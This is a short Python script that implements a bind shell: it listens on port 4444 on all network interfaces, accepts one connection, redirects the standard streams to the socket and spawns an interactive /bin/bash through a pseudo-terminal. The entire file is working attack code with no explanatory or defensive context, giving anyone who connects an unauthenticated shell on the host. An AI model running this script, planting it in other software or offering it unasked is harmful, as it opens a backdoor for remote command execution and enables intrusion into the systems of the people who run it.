import os
import pty
import socket


def listen(port=4444):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", port))
    srv.listen(1)
    return srv


def serve(srv):
    conn, addr = srv.accept()
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    pty.spawn("/bin/bash")


if __name__ == "__main__":
    serve(listen())
